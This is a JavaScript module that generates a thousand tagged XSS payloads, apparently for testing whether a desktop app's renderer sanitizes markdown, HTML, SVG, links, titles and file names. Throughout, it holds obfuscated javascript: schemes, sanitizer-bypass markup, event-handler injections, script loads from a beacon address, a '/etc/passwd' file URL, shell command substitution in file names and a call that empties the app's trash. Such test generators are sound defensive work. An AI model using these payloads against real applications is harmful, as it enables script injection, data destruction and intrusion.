/**
 * Hostile texts, made from families: what somebody writes who wants the page to run
 * code of theirs, to call Go, to fetch something or to go somewhere. The same call
 * gives the same texts.
 *
 * A text that runs calls hit(id), and some then EmptyTrash, fetch or a navigation;
 * one that only fetches or navigates asks `spy` for /id. Each ends with its mark, to
 * see that it was drawn at all.
 */

/** @typedef {{id: number, family: string, text: string, mark: string}} Payload */
/** What a shape is made of. @typedef {{code: string, address: string, scheme: string, event: string}} Parts */

/** @param {number} n */
const codes = (n) => [`hit(${n})`, `hit(${n}),go.api.API.EmptyTrash()`, `hit(${n}),fetch(spy+${n})`, `hit(${n}),location=spy+${n}`, `top.hit(${n})`, `window['hi'+'t'](${n})`];

/** Ways to write a scheme that runs. */
const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', ' javascript:', '\u0001javascript:', 'javascript&colon;', '&#106;avascript:', 'java&Tab;script:', 'javascript://%0a', 'vbscript:', 'data:text/html,<script>', 'view-source:javascript:', 'wails://wails/../', 'file:///etc/passwd#', 'blob:'];

const events = ['error', 'load', 'mouseover', 'click', 'focus', 'toggle', 'begin', 'animationstart', 'pointerenter', 'input'];

/** @type {Record<string, ((p: Parts) => string)[]>} */
const shapes = {
  markdown: [
    ({ scheme, code }) => `[click](${scheme}${code})`,
    ({ scheme, code }) => `[click](<${scheme}${code}> "a title")`,
    ({ scheme, code }) => `[click][r]\n\n[r]: ${scheme}${code}`,
    ({ scheme, code }) => `<${scheme}${code}>`,
    ({ address }) => `![picture](${address})`,
    ({ address, code }) => `[![picture](${address} "onerror=${code}")](${address})`,
    ({ address, code }) => `[x](${address} '" onmouseover="${code}')`,
    ({ address, code }) => `[x](${address}"onmouseover="${code})`,
    ({ code }) => `\`\`\`js"><img/src=x/onerror=${code}>\ncode\n\`\`\``,
    ({ code }) => `\`\`\`html\n<img src=x onerror="${code}">\n\`\`\``,
    ({ code }) => `\`<img src=x onerror=${code}>\``,
    ({ code }) => `| <img src=x onerror=${code}> |\n|--|\n| <svg onload=${code}> |`,
    ({ code }) => `# Title <img src=x onerror=${code}>\n\n> <svg/onload=${code}>`,
    ({ code }) => `- [x] <input autofocus onfocus=${code}>\n- <details open ontoggle=${code}>`,
    ({ code }) => `<!-- --><img src=x onerror=${code}><!-- -->`,
    ({ code }) => `**<b onmouseover=${code}>bold</b>** ~~<s onclick=${code}>gone</s>~~`,
    ({ address }) => `http://127.0.0.1:1/"onmouseover=alert(1) ![p][q]\n\n[q]: ${address}`,
    ({ scheme, code }) => `![${scheme}](${scheme}${code})`,
    ({ code }) => `$$<img src=x onerror=${code}>$$ and $\\href{javascript:${code}}{x}$`,
    ({ code }) => `[^1]\n\n[^1]: <iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  ],
  html: [
    ({ code }) => `<script>${code}</script>`,
    ({ address }) => `<script src="${address}"></script>`,
    ({ code, event }) => `<img src=x on${event}="${code}">`,
    ({ code, event }) => `<img src=x:x ON${event.toUpperCase()}=${code} />`,
    ({ code, event }) => `<a href="#" on${event}='${code.replaceAll("'", '"')}' autofocus tabindex=0>x</a>`,
    ({ code }) => `<input autofocus onfocus="${code}">`,
    ({ code }) => `<details open ontoggle="${code}"><summary>x</summary></details>`,
    ({ code }) => `<video><source onerror="${code}"></video><audio src=x onerror="${code}">`,
    ({ code }) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
    ({ scheme, code }) => `<iframe src="${scheme}parent.${code}"></iframe>`,
    ({ address }) => `<iframe src="${address}"></iframe><object data="${address}"></object><embed src="${address}">`,
    ({ address }) => `<img src="${address}" srcset="${address} 2x"><video poster="${address}">`,
    ({ address }) => `<link rel=stylesheet href="${address}"><style>@import "${address}";*{background:url(${address})}</style>`,
    ({ address }) => `<div style="background:url(${address});position:fixed;inset:0">x</div>`,
    ({ address }) => `<meta http-equiv=refresh content="0;url=${address}"><base href="${address}">`,
    ({ scheme, code }) => `<form action="${scheme}${code}"><button>x</button></form><button formaction="${scheme}${code}">y</button>`,
    ({ code }) => `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
    ({ code }) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
    ({ code }) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
    ({ code }) => `<template><img src=x onerror=${code}></template><textarea></textarea><img src=x onerror=${code}>`,
    ({ code }) => `<chat-room onclick="${code}"></chat-room><page-turn data-do="delete" onmouseover="${code}">x</page-turn>`,
    ({ code }) => `<button data-do="trash">x</button><form id="main" name="api"><input name="innerHTML"></form><img src=x onerror=${code}>`,
    ({ code }) => `<body onload=${code}><marquee onstart=${code}>x</marquee>`,
    ({ code }) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="${code}">x</b>`,
  ],
  svg: [
    ({ code }) => `<svg onload="${code}"></svg>`,
    ({ code }) => `<svg><script>${code}</script></svg>`,
    ({ code }) => `<svg><animate onbegin="${code}" attributeName=x dur=1s></svg>`,
    ({ scheme, code }) => `<svg><a xlink:href="${scheme}${code}"><text y=20>x</text></a></svg>`,
    ({ scheme, code }) => `<svg><a><animate attributeName=href values="${scheme}${code}" /><text y=20>x</text></a></svg>`,
    ({ address }) => `<svg><image href="${address}"/><use href="${address}#x"/><feImage href="${address}"/></svg>`,
    ({ code }) => `<svg><foreignObject><img src=x onerror="${code}"></foreignObject></svg>`,
    ({ code }) => `<svg><style><img title="</style><img src=x onerror=${code}>"></style></svg>`,
    ({ code }) => `<svg><title><img src=x onerror=${code}></title><desc><svg onload=${code}></desc></svg>`,
    ({ code }) => `<svg><set attributeName=onmouseover to="${code}"><rect width=9 height=9 onclick="${code}"/></svg>`,
    ({ address }) => `<svg><style>rect{fill:url(${address})}@import url(${address});</style><rect width=9 height=9 /></svg>`,
    ({ code }) => `<svg><p><style><a id="</style><img src=1 onerror=${code}>"></svg>`,
  ],
  link: [
    ({ scheme, code }) => `${scheme}${code}`,
    ({ scheme, code }) => `${scheme}//x%0a${code}`,
    ({ address, code }) => `${address}"onmouseover="${code}`,
    ({ address, code }) => `${address}"><img src=x onerror=${code}>`,
    ({ address, code }) => `${address}' onclick='${code}`,
    ({ code }) => `https:"><svg/onload=${code}>`,
    ({ address }) => `${address.replace('http:', '')}`,
    ({ address }) => `\\\\${address.slice(7)}`,
    ({ address, code }) => `http://javascript:${code}@${address.slice(7)}`,
    ({ code }) => `data:text/html;base64,${btoa(`<script>parent.${code}</script>`)}`,
    ({ scheme, code }) => `https://a.example/\n${scheme}${code}`,
    ({ address }) => `mailto:x?body=${address}"ping="${address}`,
  ],
  title: [
    ({ code }) => `"><img src=x onerror=${code}>`,
    ({ code, event }) => `" autofocus tabindex=0 on${event}="${code}" x="`,
    ({ code }) => `' onmouseover='${code}' x='`,
    ({ code }) => `\` onmouseover=${code} x=\``,
    ({ code }) => `&#34;&#62;&#60;img src=x onerror=${code}&#62;`,
    ({ code }) => `&quot;&gt;&lt;svg onload=${code}&gt;`,
    ({ code }) => `</title></h1></button></textarea><script>${code}</script>`,
    ({ code }) => `\${${code}} {{${code}}} <%= ${code} %>`,
    ({ code }) => `\u202Egnp.<img src=x onerror=${code}>`,
    ({ code }) => `--><!--><img src=x onerror=${code}>`,
    ({ code }) => `]]><svg onload=${code}>${'A'.repeat(300)}`,
    ({ code }) => `" data-do="delete" data-id="chat1" onclick="${code}`,
  ],
  file: [
    ({ code }) => `/home/ada/"><img src=x onerror=${code}>.md`,
    ({ code }) => `/home/ada/<svg onload=${code}>.pdf`,
    ({ code }) => `C:\\notes\\' onmouseover='${code}'.txt`,
    ({ scheme, code }) => `${scheme}${code}.md`,
    ({ address }) => `${address}/../x.html`,
    ({ address }) => `/home/ada/<img src=${address.slice(5)}>.html`,
    ({ code }) => `/home/ada/$(${code})\`${code}\`.md`,
    ({ code }) => `/home/ada/a\n<script>${code}</script>.md`,
    ({ code, event }) => `/home/ada/" on${event}="${code}" x=".md`,
    ({ code }) => `/home/ada/%22%3E%3Cimg%20src=x%20onerror=${code}%3E.md`,
  ],
};

/** How many of each family: a thousand together. @type {Record<string, number>} */
const share = { markdown: 240, html: 288, svg: 144, link: 144, title: 104, file: 80 };

/**
 * A thousand texts.
 * @param {string} spy an address that counts who asks it, with a slash at its end
 * @returns {Payload[]}
 */
export function payloads(spy) {
  /** @type {Payload[]} */
  const all = [];
  for (const [family, n] of Object.entries(share)) {
    const list = shapes[family];
    for (let i = 0; i < n; i++) {
      const id = all.length + 1;
      const turn = Math.floor(i / list.length);
      const code = codes(id)[turn % 6];
      const text = list[i % list.length]({ code, address: `${spy}${id}`, scheme: schemes[(i + turn) % schemes.length], event: events[(i + turn) % events.length] });
      const mark = `mark${id}end`;
      // A space would make what runs from an address a mistake of its own.
      all.push({ id, family, mark, text: `${text}${family === 'link' || family === 'file' ? '//' : ' '}${mark}` });
    }
  }
  return all;
}
